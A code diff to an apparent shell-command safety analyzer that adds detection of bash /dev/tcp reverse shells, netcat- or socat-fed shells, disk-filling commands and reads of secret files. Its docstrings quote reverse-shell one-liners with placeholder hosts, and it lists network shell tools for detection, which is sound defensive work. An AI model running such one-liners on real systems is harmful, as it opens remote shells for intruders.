@@ -7,6 +7,7 @@ copied.
 
 from __future__ import annotations
 
+import fnmatch
 import posixpath
 import re
 from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
@@ -16,7 +17,7 @@ from shlex import quote
 from guardrail.catalogue.loader import Catalogue, EffectRow, Inner, Program, Request, option_name
 from guardrail.circumstances import is_break_in, is_hidden_stream
 from guardrail.facts import Environment, Facts, environment_of
-from guardrail.foreign import look, starts_shell
+from guardrail.foreign import look, runs_what_it_receives, starts_shell
 from guardrail.model import Call, Effect, Passage, Reading, Redirection, Span, Target, Uncovered, Word
 from guardrail.options import Parsed, parse
 from guardrail.paths import (
@@ -62,6 +63,89 @@ TEXT_OPTIONS = frozenset(("-m", "--message", "--body", "--title", "--notes", "--
 """Options whose value people read."""
 COMMAND_NAMES = ("rsh", "exec", "command", "editor", "pager", "program", "cmd")
 TEXT_TOOLS = frozenset(("echo", "printf", "grep", "egrep", "fgrep", "rg", "ag", "sed", "awk", "git", "test", "["))
+NAMES_ONLY = frozenset(
+    (
+        *(
+            "echo",
+            "print",
+            "printf",
+            "test",
+            "[",
+            "[[",
+            "((",
+            "cd",
+            "pushd",
+            "popd",
+            "dirs",
+            "export",
+            "declare",
+            "local",
+        ),
+        *("typeset", "readonly", "set", "unset", "read", "return", "exit", "type", "hash", "alias", "unalias", "let"),
+        *(
+            "ls",
+            "dir",
+            "vdir",
+            "eza",
+            "exa",
+            "lsd",
+            "stat",
+            "file",
+            "basename",
+            "dirname",
+            "realpath",
+            "readlink",
+            "tree",
+        ),
+        *(
+            "which",
+            "whereis",
+            "whatis",
+            "du",
+            "df",
+            "ncdu",
+            "dust",
+            "duf",
+            "locate",
+            "lsattr",
+            "getfacl",
+            "getcap",
+            "namei",
+        ),
+        *("lsof", "findmnt", "mountpoint", "pathchk", "expr", "ps", "pgrep", "pidof", "true", "false", ":", "getopt"),
+        *("ssh-keyscan", "logger", "wait", "getopts", "help", "complete", "compgen", "ping", "id", "groups", "getent"),
+        *(
+            "sleep",
+            "mktemp",
+            "tempfile",
+            "man",
+            "info",
+            "tldr",
+            "cut",
+            "trap",
+            "shift",
+            "ionice",
+            "gettext",
+            "ngettext",
+        ),
+        *(
+            "ssh-add",
+            "ssh-agent",
+            "sshd",
+            "stow",
+            "mount",
+            "umount",
+            "cryptsetup",
+            "wg-quick",
+            "wg",
+            "openvpn",
+            "restorecon",
+        ),
+        *("inotifywait", "inotifywatch", "auditctl", "shellcheck", "fswatch", "entr"),
+        *("dialog", "whiptail", "zenity", "gum", "kdialog", "cowsay", "figlet", "envsubst", "systemd-cat", "xdg-mime"),
+    )
+)
+"""Programs that name or look for a file, or say something of it, and don't show what it holds."""
 SCRIPT_SUFFIXES = (
     *(".sh", ".bash", ".zsh", ".ksh", ".fish", ".py", ".pl", ".rb", ".js", ".mjs", ".ts", ".php", ".lua", ".ps1"),
     *(".bat", ".cmd", ".vbs", ".run", ".bin", ".appimage", ".out", ".command"),
@@ -102,12 +186,23 @@ ORDINARY_WORDS = frozenset(
 GO_FIRST = frozenset(("git", "make", "gmake", "ninja"))
 """Programs whose first option may be `-C directory`."""
 _UNDOES = frozenset((EffectKind.DELETE, EffectKind.DISCARD, EffectKind.ALTER, EffectKind.GRANT, EffectKind.EXPOSE))
+_THIS_MACHINE = frozenset(("localhost", "127.0.0.1", "::1"))
+_CONNECTIONS = frozenset(("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet", "socat"))
+_ENDLESS = frozenset(("/dev/zero", "/dev/urandom", "/dev/random"))
+_SAVES = frozenset(("-o", "-O", "--output", "--remote-name", "-sSLo", "-fsSLo", "-Lo", "-sLo"))
+_FILE_OPTIONS = frozenset(("-f", "-F", "--file", "-b", "-a", "-E", "-r", "--"))
+_OUTPUT_OPTIONS = frozenset(("-o", "-O", "--output", "--out", "--output-file", "--outfile", "--log-file", "--logfile"))
+_PATTERN_OF_NAME = re.compile(r"[\w.+-]*[?*\[][\w.+?*\[\]-]*")
+_NETWORK = re.compile(r"/dev/(tcp|udp)/([^/\s]+)/([^/\s]+)")
+MAX_NAMES = 64
+"""Programs that a pattern in the place of a name may mean."""
 _URL = re.compile(r"\w+://[^\s'\"`)]+")
 _DOT_COMMAND = re.compile(
     r"\s*\.(?:(?:shell|system)\s+(.+)|(?:output|once|excel|log)\s+(?:-\S+\s+)*(\S+)\s*$)", re.DOTALL
 )
 _KEEPS_RIGHTS = re.compile(r"[ugoa]*\+[rwxX]+|[ug]=rw[xX]?|0?[67][0-7][0-7]")
 _PATHLIKE = frozenset((ObjectKind.PATH, ObjectKind.SECRET, ObjectKind.CREDENTIAL, ObjectKind.PERSONAL_DATA))
+_NO_CARE = Care(Sensitivity.NONE, "")
 _CARES = frozenset((Sensitivity.SECRET, Sensitivity.PERSONAL))
 
 
@@ -182,6 +277,8 @@ class _Interpreter:
         self.mounts: dict[str, tuple[tuple[str, str], ...]] = {}
         self.copied: dict[str, Care] = {}
         self.disguised: dict[str, str] = {}  # copies of programs of the system, and what they are
+        self.made_keys: set[str] = set()
+        self.connection: str | None = None  # that the shell has opened under a descriptor
         self.judges_origin = facts.user_request is not None or bool(facts.untrusted_content)
 
     # Readings and calls
@@ -260,6 +357,8 @@ class _Interpreter:
                 self._hidden_streams(call)
         for redirection in call.redirections:
             self._redirection(redirection, call)
+            if (url := _network_of(redirection.target.text)) is not None:
+                self._connection(url, call, self.effects[first:])
         effects = self.effects[first:]
         self.effects_of[id(original)] = (original, effects)
         self._remember(call, effects)
@@ -272,7 +371,8 @@ class _Interpreter:
             call = self._undisguised(call)
         program = self._entry(call.program)
         if program is None:
-            self._unknown(call, frame)
+            if not self._by_pattern(call, frame):
+                self._unknown(call, frame)
             return
         self.covered_calls += 1
         call = _in_named_directory(call)
@@ -295,13 +395,21 @@ class _Interpreter:
                     self._row(row, parsed, call)
             if level.request is not None and parsed.holds(level.request.when):
                 self._request(level.request, parsed, call, frame)
+        level = parsed.level
+        harmless = not (level.effects or level.request)
+        leaf = not (level.inner or level.subcommands)
+        if leaf and (harmless or not parsed.path) and call.program not in NAMES_ONLY:
+            self._unstated(call, harmless)
         inners = [inner for level in parsed.levels for inner in level.inner if parsed.holds(inner.when)]
         for inner in inners:
             self._inner(inner, parsed, call, frame)
         if not inners and call.program not in TEXT_TOOLS:
             self._shells_in_options(call, frame)
-        if frame.depth and program.name in SHELLS and _waits_for_typing(parsed):
-            self._interactive_shell(call)
+        if program.name in SHELLS and _waits_for_typing(parsed):
+            if self.connection is not None:
+                self._network_shell(self.connection, call)
+            elif frame.depth:
+                self._interactive_shell(call)
 
     def _hidden_streams(self, call: Call) -> None:
         """A stream behind a file is used to hide something, whatever program it is given to."""
@@ -343,6 +451,50 @@ class _Interpreter:
                 return catalogue.program(name.removesuffix(suffix))
         shorter = name.rstrip("0123456789.-")
         return catalogue.program(shorter) if shorter and shorter != name else None
+
+    def _by_pattern(self, call: Call, frame: _Frame) -> bool:
+        """A name that the shell completes from what is installed, such as `/bin/r?`: each program that it may be."""
+        if not call.path.startswith("/") or frame.depth > 1 or _PATTERN_OF_NAME.fullmatch(call.program) is None:
+            return False
+        names = [name for name in fnmatch.filter(self.catalogue, call.program) if ":" not in name]
+        for name in names[:MAX_NAMES]:
+            self._program(replace(call, program=name), replace(frame, depth=frame.depth + 2))
+        return bool(names)
+
+    def _unstated(self, call: Call, harmless: bool) -> None:
+        """A program shows the secrets in a file that it is given, if only as an error. If it does more than to show
+        something, that holds for what lies outside of the work and what its entry says nothing of. It writes what an
+        option for results names."""
+        directory = _directory(call)
+        stated: set[str] | None = None
+        for at, word in enumerate(call.words):
+            text = word.text
+            if "/" not in text and text[:1] != ".":
+                continue
+            if self._is_unstated_output(call, at, text):
+                target = self._target(word, EffectKind.WRITE, ObjectKind.PATH, call)
+                self._generic_effect(EffectKind.WRITE, ObjectKind.PATH, (target,), call, {}, True)
+                self._consequences(self.effects[-1], directory)
+                continue
+            if not harmless and at and (before := call.words[at - 1].text)[:1] == "-" and before not in _FILE_OPTIONS:
+                continue
+            if self._care(word, directory).sensitivity not in _CARES:
+                continue
+            target = self._target(word, EffectKind.READ, ObjectKind.PATH, call)
+            if not harmless:
+                if stated is None:
+                    stated = {found.text for effect in self.effects[-8:] for found in effect.targets}
+                if target.place not in (Place.HOME, Place.SYSTEM) or text in stated or text[:1] == "-":
+                    continue
+            self._generic_effect(EffectKind.READ, ObjectKind.PATH, (target,), call, {}, True)
+
+    def _is_unstated_output(self, call: Call, at: int, text: str) -> bool:
+        """Decides whether an option that is named as those for a result names a file on which the system rests."""
+        before = call.words[at - 1].text if at else ""
+        if consequence_of_write(text) is None:
+            return False
+        named = before in _OUTPUT_OPTIONS and text[:1] in ("/", "~", ".")
+        return named and not any(target.text == text for effect in self.effects[-8:] for target in effect.targets)
 
     # Rows
 
@@ -408,6 +560,10 @@ class _Interpreter:
         )
         if row.kind is EffectKind.EXECUTE:
             effect = self._executed(effect, call)
+            if detail.get("code") == "named_file" and call.program not in SHELLS and call.program != "source":
+                shown = tuple(target for target in effect.targets if target.sensitivity in _CARES)
+                if shown:  # what is no program is shown in the error
+                    self._generic_effect(EffectKind.READ, ObjectKind.PATH, shown, call, {}, True)
         elif self.has_staged and row.kind is EffectKind.DISCARD and effect.source == "git reset":
             effect = replace(effect, detail={**detail, "staged": "yes"})
         self._add(effect)
@@ -555,15 +711,20 @@ class _Interpreter:
     def _care(self, word: Word, directory: str | None) -> Care:
         """The care that a word's path deserves: its own, of what was copied there, or of what a substitution prints."""
         text = word.text
-        care = care_of(text, self.facts.os)
+        computed = not word.known and any(mark in text for mark in ("$(", "`", "<("))
+        care = _NO_CARE if computed else care_of(text, self.facts.os)
         if care.sensitivity is Sensitivity.NONE and directory is not None:
             care = care_of(located(text, self.facts, directory), self.facts.os)
+        if self.made_keys and located(text, self.facts, directory) in self.made_keys:
+            return _NO_CARE
         if self.copied and care.sensitivity not in _CARES:
             care = self.copied.get(located(text, self.facts, directory), care)
-        computed = not word.known and any(mark in text for mark in ("$(", "`", "<("))
+        if "mktemp" in text and computed:
+            return care  # a name that nothing has yet
         if computed and care.sensitivity is Sensitivity.NONE and not text.startswith(PUBLIC_CERTIFICATES):
-            found = (care_of(piece) for piece in _pieces(text))
-            care = next((known for known in found if known.sensitivity in _CARES), care)
+            found = [care_of(piece) for piece in _pieces(text)]
+            cares = [known for known in found if known.sensitivity is not Sensitivity.NONE]
+            care = next((known for known in cares if known.sensitivity in _CARES), cares[0] if cares else care)
         return care
 
     def _on_host(self, place: Place, call: Call) -> Place:
@@ -617,7 +778,8 @@ class _Interpreter:
             _, effects = self.effects_of.get(id(source), (source, ()))
             for effect in effects:
                 if effect.kind is EffectKind.DOWNLOAD:
-                    urls += [target.text for target in effect.targets] or [effect.detail.get("url", "")]
+                    if not _saves(source):
+                        urls += [target.text for target in effect.targets] or [effect.detail.get("url", "")]
                 elif effect.kind is EffectKind.READ:
                     if "url" in effect.detail:
                         urls.append(effect.detail["url"])
@@ -713,7 +875,8 @@ class _Interpreter:
                 named = _URL.search(target.text)
                 url = urls[0] if urls else named[0] if named else None
             if url is not None:
-                return replace(effect, detail={**effect.detail, "code": "remote", "url": url})
+                thing = ObjectKind.PROCESS if target.text.startswith(("<(", "$(", "`")) else effect.object
+                return replace(effect, object=thing, detail={**effect.detail, "code": "remote", "url": url})
         return effect
 
     def _remember(self, call: Call, effects: Iterable[Effect]) -> None:
@@ -725,6 +888,10 @@ class _Interpreter:
         for effect in effects:
             if effect.kind is EffectKind.DOWNLOAD:
                 urls += [target.text for target in effect.targets]
+            elif effect.kind is EffectKind.CREATE and effect.object is ObjectKind.CREDENTIAL:
+                # A key that the action makes is nobody's secret yet.
+                own = [target for target in effect.targets if target.place in (Place.WORKSPACE, Place.TEMPORARY)]
+                self.made_keys.update(located(target.text, self.facts, directory) for target in own)
             elif effect.kind in _MAKES and effect.object is ObjectKind.PATH:
                 paths = [located(target.text, self.facts, directory) for target in effect.targets]
                 made += paths
@@ -769,7 +936,7 @@ class _Interpreter:
 
     def _redirection(self, redirection: Redirection, call: Call) -> None:
         word = redirection.target
-        if is_nowhere(word.text):
+        if is_nowhere(word.text) or _network_of(word.text) is not None:
             return
         if redirection.operator == "<":
             kind = EffectKind.READ
@@ -796,6 +963,29 @@ class _Interpreter:
         self._add(effect)
         if kind in _WRITES:
             self._consequences(effect, _directory(call))
+            if _never_ends(call):
+                target = (Target(word.text, Place.SYSTEM),)
+                self._generic_effect(EffectKind.DISRUPT, ObjectKind.DEVICE, target, call, {}, True)
+
+    def _connection(self, url: str, call: Call, effects: Sequence[Effect]) -> None:
+        """The shell opens a connection as if it were a file: `bash -i >& /dev/tcp/host/port`."""
+        if call.program in SHELLS:
+            self._network_shell(url, call)
+            return
+        if call.program == ":":
+            self.connection = url  # for those that come after: `exec 5<>/dev/tcp/host/port; sh <&5 >&5`
+        fed = self._fed(call.stdin).care
+        read = [target for effect in effects if effect.kind is EffectKind.READ for target in effect.targets]
+        targets = tuple(target for target in read if target.sensitivity in _CARES)
+        if fed is not None:
+            targets = (*targets, self._fed_target(call, EffectKind.SEND))
+        if targets:
+            self._generic_effect(EffectKind.SEND, ObjectKind.PATH, targets, call, {"url": url}, True)
+
+    def _network_shell(self, url: str, call: Call) -> None:
+        detail = {"code": "interactive_shell", "url": url}
+        target = (Target(url, self._placed(Place.REMOTE, ObjectKind.PROCESS)),)
+        self._generic_effect(EffectKind.EXECUTE, ObjectKind.NETWORK, target, call, detail, True)
 
     # Inner actions
 
@@ -891,6 +1081,8 @@ class _Interpreter:
             return
         if language == "unknown":
             self._code("inline", call)
+            if starts_shell(text):
+                self._interactive_shell(call)
             self._foreign(text, call)
             self.uncovered.append(Uncovered(call.span, f"code that {call.program} runs"))
             return
@@ -899,7 +1091,14 @@ class _Interpreter:
     def _foreign(self, code: str, call: Call) -> None:
         """Returns what code in a language that nobody here reads does by what stands in its quotes."""
         frame = _Frame(depth=MAX_DEPTH - 1, host=call.host, elevated=call.elevated, sure=call.sure, carrier=call.span)
+        if runs_what_it_receives(code):
+            self._network_shell(call.program, call)
         for found in look(code):
+            if found.kind == "named":
+                target = self._target(Word(found.text, call.span), EffectKind.READ, ObjectKind.PATH, call)
+                if target.sensitivity in _CARES:
+                    self._generic_effect(EffectKind.READ, ObjectKind.PATH, (target,), call, {}, True)
+                continue
             if found.kind == "command":
                 if self._is_command_line(found.text):
                     self._text(found.text, "bash", call, frame)
@@ -956,6 +1155,9 @@ class _Interpreter:
                 self._text(output, language, call, frame)
             return
         urls = self._fed(source).urls
+        if language == "bash" and (connection := _connection_of(source)) is not None:
+            self._network_shell(connection, call)
+            return
         if urls:
             self._code("remote", call, urls)
             return
@@ -1034,6 +1236,8 @@ class _Interpreter:
         if fed.urls:
             self._code("remote", call, fed.urls)
             return
+        if self.connection is not None and len(call.words) == 1:
+            self._network_shell(self.connection, call)
         self._generic(call, frame)
         self.uncovered.append(Uncovered(call.span, "a program whose name is computed"))
 
@@ -1192,6 +1396,35 @@ def _program_name(path: str) -> str:
     return path.replace("\\", "/").rstrip("/").rpartition("/")[2].lower().removesuffix(".exe")
 
 
+def _never_ends(call: Call) -> bool:
+    """Decides whether a program prints until the disk is full."""
+    words = [word.text for word in call.words]
+    return call.program == "yes" or (call.program == "cat" and bool(words) and words[0] in _ENDLESS)
+
+
+def _saves(call: Call) -> bool:
+    """Decides whether a client keeps what it fetches in a file, so that nothing comes out of it."""
+    following = zip(call.words, (*call.words[1:], None), strict=True)
+    return any(word.text in _SAVES and (after is None or after.text != "-") for word, after in following)
+
+
+def _connection_of(source: Call | Word) -> str | None:
+    """The other end of a bare connection in a pipe, from which anything can be typed."""
+    here: Call | Word | None = source
+    while isinstance(here, Call):
+        words = [word.text for word in here.words]
+        if here.program in _CONNECTIONS or (here.program == "openssl" and "s_client" in words):
+            return " ".join((here.program, *words))
+        here = here.stdin
+    return None
+
+
+def _network_of(path: str) -> str | None:
+    """The address behind a name by which bash opens a connection: `/dev/tcp/host/port`."""
+    found = _NETWORK.match(path) if path.startswith("/dev/") else None
+    return f"{found[1]}://{found[2]}:{found[3]}" if found else None
+
+
 def _shortened(name: str) -> str:
     return name if len(name) <= LONGEST_NAME else f"{name[: LONGEST_NAME - 1]}…"
 
@@ -1317,6 +1550,8 @@ def _host(inner: Inner, parsed: Parsed) -> str | None:
     if colon and prefix in ("operand", "operands", "option", "argument", "text"):
         prefix, part = parsed.program.name, inner.host
     words = parsed.part(part)
+    if words and words[0].text.rpartition("@")[2] in _THIS_MACHINE:
+        return None
     return f"{prefix}:{words[0].text if words else ''}"
 
 
@@ -1342,7 +1577,7 @@ def _inner_words(inner: Inner, parsed: Parsed) -> Iterator[Sequence[Word]]:
             yield _after_assignments(rest) if inner.skip_assignments else rest
     elif inner.part is not None:
         found = parsed.part(inner.part)
-        if inner.language != "argv" and inner.part.startswith(("option", "argument", "operand:")):
+        if inner.language != "argv" and inner.part.startswith(("option", "value_of", "argument", "operand:")):
             yield from ([word] for word in found)
         else:
             yield found[inner.skip :]
